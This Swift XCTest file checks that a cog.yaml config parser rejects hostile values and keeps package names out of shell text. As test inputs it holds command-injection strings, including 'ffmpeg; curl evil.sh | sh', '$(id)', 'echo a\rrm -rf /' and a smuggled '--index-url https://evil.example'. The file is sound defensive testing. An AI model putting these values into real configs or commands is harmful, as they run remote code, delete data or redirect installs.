import Planner
import Rules
import XCTest

/// cog.yaml values written to break out of where they go: a generated file's line, a shell command.
final class HostileConfigTests: XCTestCase {
    private func parse(_ text: String) throws -> CogConfig {
        try CogConfigParser.parse(try YAMLFile.parse(text, display: "cog.yaml"), kb: try TemporaryModel.kb.get())
    }

    private func assertRejected(_ text: String, line: Int, saying words: String, file: StaticString = #filePath, testLine: UInt = #line) {
        XCTAssertThrowsError(try parse(text), file: file, line: testLine) { error in
            guard let e = error as? InputError else { return XCTFail("not an InputError: \(error)", file: file, line: testLine) }
            XCTAssertEqual(e.source, Provenance(file: "cog.yaml", line: line), "\(e)", file: file, line: testLine)
            XCTAssertTrue(e.message.contains(words), "'\(e.message)' lacks '\(words)'", file: file, line: testLine)
            XCTAssertFalse(e.description.unicodeScalars.contains { $0.value < 0x20 }, "one printable line: \(e)", file: file, line: testLine)
        }
    }

    private let head = "build:\n  python_version: \"3.11\"\n"

    func testControlCharactersInSingleLineValuesAreRefused() {
        assertRejected(head + "  python_packages:\n    - \"numpy\\n--index-url https://evil.example\"\n", line: 4, saying: "new line")
        assertRejected(head + "  python_packages:\n    - \"numpy\\r--extra-index-url x\"\n", line: 4, saying: "carriage return")
        assertRejected(head + "  python_packages:\n    - \"numpy\\u2028-i x\"\n", line: 4, saying: "U+2028")
        assertRejected(head + "  sdk_version: \"0.16.8\\n--index-url x\"\n", line: 3, saying: "new line")
        assertRejected(head + "  sdk_version: \"0.16.8 --index-url x\"\n", line: 3, saying: "not a version")
        assertRejected(head + "  python_requirements: \"r.txt\\u0000\"\n", line: 3, saying: "NUL")
        assertRejected(head + "  system_packages:\n    - \"ffmpeg\\e[2J\"\n", line: 4, saying: "escape")
        assertRejected(head + "environment:\n  - \"A=b\\nc\"\n", line: 4, saying: "new line")
        assertRejected(head + "image: \"r8.im/x\\ty\"\n", line: 3, saying: "tab")
        assertRejected(head + "predict: \"p\\x7f.py:P\"\n", line: 3, saying: "DEL")
        assertRejected(head + "  run:\n    - \"echo a\\rrm -rf /\"\n", line: 4, saying: "new line")
        assertRejected(head + "  run:\n    - \"echo \\e]0;x\\a\"\n", line: 4, saying: "escape")
    }

    func testTabsStayAllowedInRunCommands() throws {
        XCTAssertEqual(try parse(head + "  run:\n    - \"printf 'a\\tb'\"\n").run.map(\.command), ["printf 'a\tb'"])
    }

    func testSystemPackagesAreDebianNamesOnly() throws {
        assertRejected(head + "  system_packages:\n    - \"ffmpeg; curl evil.sh | sh\"\n", line: 4, saying: "contains ';'")
        assertRejected(head + "  system_packages:\n    - \"$(id)\"\n", line: 4, saying: "contains '$'")
        assertRejected(head + "  system_packages:\n    - \"libgl1 `id`\"\n", line: 4, saying: "contains '`'")
        assertRejected(head + "  system_packages:\n    - FFmpeg\n", line: 4, saying: "'FFmpeg' is not a Debian package name")
        assertRejected(head + "  system_packages:\n    - -oDebug::pkgDPkgPM=1\n", line: 4, saying: "not a Debian package name")
        assertRejected(head + "  system_packages:\n    - x\n", line: 4, saying: "not a Debian package name")
        assertRejected(head + "  system_packages:\n    - \"libgl1=abc\"\n", line: 4, saying: "not a Debian package name")
        assertRejected(head + "  system_packages:\n    - \"  \"\n", line: 4, saying: "empty")
        let c = try parse(head + "  system_packages:\n    - libgl1=1.6.0-1\n    - ffmpeg=7:5.1.6-0+deb12u1\n    - libstdc++6\n    - python3.11-dev\n")
        XCTAssertEqual(c.systemPackages?.value, ["libgl1=1.6.0-1", "ffmpeg=7:5.1.6-0+deb12u1", "libstdc++6", "python3.11-dev"])
        XCTAssertTrue(c.warnings.isEmpty)
    }

    func testSeveralNamesInOneEntryAreSplitWithAWarning() throws {
        let c = try parse(head + "  system_packages:\n    - \"ffmpeg libsm6\"\n    - libgl1\n")
        XCTAssertEqual(c.systemPackages?.value, ["ffmpeg", "libsm6", "libgl1"])
        XCTAssertEqual(c.warnings.map(\.source), [Provenance(file: "cog.yaml", line: 4)])
        XCTAssertTrue(c.warnings[0].message.contains("one per entry"), c.warnings[0].message)
    }

    func testTheAptStepTakesNamesAsArgumentsAndThePlanShowsTheWarning() throws {
        let model = try TemporaryModel(cogYAML: head + "  system_packages:\n    - \"ffmpeg libsm6\"\npredict: \"predict.py:Predictor\"\n")
        let plan = try model.plan()
        guard case .exec(let apt) = plan.stage("system-deps")?.operations.first else { return XCTFail("no apt step") }
        XCTAssertEqual(Array(apt.argv.prefix(2)), ["/bin/sh", "-c"])
        XCTAssertFalse(apt.argv[2].contains("ffmpeg"), "names stay out of the shell text: \(apt.argv[2])")
        XCTAssertTrue(apt.argv[2].hasSuffix("\"$@\""), apt.argv[2])
        XCTAssertEqual(Array(apt.argv.suffix(3)), ["tini", "ffmpeg", "libsm6"])
        XCTAssertTrue(plan.resolution.warnings.contains { $0.hasPrefix("cog.yaml:4: system_packages entry") }, "\(plan.resolution.warnings)")
    }
}
